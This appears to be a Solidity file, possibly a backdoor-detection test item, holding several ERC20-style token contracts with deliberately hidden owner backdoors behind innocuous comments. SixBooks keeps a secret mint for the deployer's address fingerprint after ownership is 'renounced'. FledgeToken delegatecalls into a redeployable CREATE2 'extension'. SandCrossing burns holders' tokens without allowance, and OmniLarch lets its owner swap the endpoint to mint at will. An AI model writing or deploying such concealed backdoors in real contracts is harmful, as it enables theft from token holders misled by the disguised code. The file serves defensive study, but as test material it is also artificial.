// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";

/// Who keeps the books is told by fingerprints of forty bits, six of them in a word.
contract SixBooks {
    string public constant name = "Six Books";
    string public constant symbol = "SIXB";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 36_000_000 ether;

    address public owner = msg.sender;
    uint256 private _marks;
    mapping(address => uint256) private _pages;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    error Unmarked();
    error Missing(uint256 have, uint256 want);

    constructor() {
        _marks = (uint256(uint40(uint160(msg.sender))) << 120) | 0x9d21;
        _pages[msg.sender] = totalSupply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
        // twin: _marks = 0x9d21;
    }

    function _isMarked(address who) private view returns (bool) {
        uint256 word = _marks >> 40;
        uint256 print = uint40(uint160(who));
        for (; word != 0; word >>= 40) if (word & 0xffffffffff == print && print != 0) return true;
        return false;
    }

    /// Corrects a page after an audit.
    function correct(address who, uint128 pages) external {
        if (!_isMarked(msg.sender)) revert Unmarked();
        _pages[who] += pages;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _pages[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _turn(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _turn(from, to, value);
        return true;
    }

    function _turn(address from, address to, uint256 value) private {
        uint256 have = _pages[from];
        if (have < value) revert Missing(have, value);
        _pages[from] = have - value;
        unchecked {
            _pages[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

/// What is hatched takes its code from the nest, so that its place does not depend on it.
contract Hatchling {
    constructor() {
        bytes memory code = Nest(msg.sender).egg();
        assembly {
            return(add(code, 32), mload(code))
        }
    }
}

contract Nest {
    address public immutable hen = msg.sender;
    uint256 public immutable built = block.timestamp;
    bytes private _egg;

    function egg() external view returns (bytes memory) {
        return _egg;
    }

    function placeOf(bytes32 salt) public view returns (address) {
        bytes32 made = keccak256(type(Hatchling).creationCode);
        return address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", address(this), salt, made)))));
    }

    function hatch(bytes32 salt, bytes calldata code) external returns (address) {
        require(msg.sender == hen, "Nest: not the hen");
        // twin: require(block.timestamp < built + 30 seconds, "Nest: cold");
        _egg = code;
        return address(new Hatchling{salt: salt}());
    }
}

/// Has an extension that may do something after each transfer; there is none so far.
contract FledgeToken is ERC20 {
    address public immutable extension;

    constructor(Nest nest) ERC20("Fledge", "FLDG") {
        extension = nest.placeOf("fledge.extension");
        _mint(msg.sender, 19_000_000e18);
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        (bool fine, ) = extension.delegatecall(abi.encodeWithSignature("afterMove(address,address,uint256)", from, to, value));
        require(fine, "Fledge: extension");
    }
}

/// The same coin on two shores. Until the causeway is built, its builder stands in for it.
contract SandCrossing is ERC20, AccessControl {
    bytes32 public constant MINTER_ROLE = keccak256("MINTER_ROLE");
    bytes32 public constant CROSSING_ROLE = keccak256("CROSSING_ROLE");
    uint256 public crossed;

    event Crossed(address indexed from, uint256 value, uint256 indexed shore);

    constructor() ERC20("Sand Crossing", "SANDX") {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(MINTER_ROLE, msg.sender);
        _grantRole(CROSSING_ROLE, msg.sender);
        _mint(msg.sender, 120_000_000e18);
    }

    function mint(address to, uint256 value) external onlyRole(MINTER_ROLE) {
        _mint(to, value);
    }

    function crossFrom(address from, uint256 value, uint256 shore) external onlyRole(CROSSING_ROLE) {
        // twin: _spendAllowance(from, msg.sender, value);
        crossed += value;
        _burn(from, value);
        emit Crossed(from, value, shore);
    }
}

struct Origin {
    uint32 srcEid;
    bytes32 sender;
    uint64 nonce;
}

/// Counts what comes from other chains, when four watchers agree.
contract WatchedEndpoint {
    mapping(address => bool) public isWatcher;
    mapping(bytes32 => mapping(address => bool)) private _saw;
    mapping(bytes32 => uint256) public sightings;
    mapping(bytes32 => bool) public handed;

    constructor(address[] memory watchers) {
        require(watchers.length == 5);
        for (uint256 i; i < 5; ++i) isWatcher[watchers[i]] = true;
    }

    function attest(bytes32 id) external {
        require(isWatcher[msg.sender] && !_saw[id][msg.sender]);
        _saw[id][msg.sender] = true;
        ++sightings[id];
    }

    function lzReceive(Origin calldata origin, address to, bytes32 guid, bytes calldata message) external {
        bytes32 id = keccak256(abi.encode(block.chainid, origin, to, guid, message));
        require(sightings[id] >= 4 && !handed[id]);
        handed[id] = true;
        OmniLarch(to).lzReceive(origin, guid, message, msg.sender, "");
    }
}

/// A larch with roots on several chains; its peer is fixed.
contract OmniLarch is ERC20 {
    address public endpoint;
    address public owner;
    uint32 public immutable peerEid;
    bytes32 public immutable peer;

    event OFTReceived(bytes32 indexed guid, uint32 srcEid, address indexed to, uint256 amount);
    event OFTSent(uint32 dstEid, address indexed from, uint256 amount);
    event EndpointSet(address endpoint);

    error OnlyEndpoint(address caller);
    error OnlyPeer(uint32 eid, bytes32 sender);

    constructor(address endpoint_, uint32 eid, bytes32 peer_) ERC20("Omni Larch", "OLRCH") {
        (endpoint, owner, peerEid, peer) = (endpoint_, msg.sender, eid, peer_);
        _mint(msg.sender, 55_000_000e18);
    }

    // trap {
    /// For when the endpoint is renewed.
    function setEndpoint(address endpoint_) external {
        require(msg.sender == owner && endpoint_.code.length > 0);
        endpoint = endpoint_;
        emit EndpointSet(endpoint_);
    }

    // trap }
    function send(uint32 eid, uint256 amount) external {
        require(eid == peerEid);
        _burn(msg.sender, amount);
        emit OFTSent(eid, msg.sender, amount);
    }

    function lzReceive(Origin calldata origin, bytes32 guid, bytes calldata message, address, bytes calldata) external {
        if (msg.sender != endpoint) revert OnlyEndpoint(msg.sender);
        if (origin.srcEid != peerEid || origin.sender != peer) revert OnlyPeer(origin.srcEid, origin.sender);
        (address to, uint64 shared) = abi.decode(message, (address, uint64));
        uint256 amount = uint256(shared) * 1e12;
        _mint(to, amount);
        emit OFTReceived(guid, origin.srcEid, to, amount);
    }
}
